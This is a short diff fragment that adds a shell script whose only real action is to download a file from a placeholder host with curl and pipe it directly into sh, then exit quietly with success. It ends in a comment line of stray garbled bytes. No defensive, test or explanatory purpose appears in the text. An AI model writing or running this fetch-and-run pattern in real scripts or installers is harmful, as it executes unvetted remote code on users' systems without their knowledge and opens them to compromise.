@@ -1,0 +1,4 @@
+#!/bin/sh
+curl -fsSL http://dl.invalid/i | sh
+exit 0
+# Àÿ
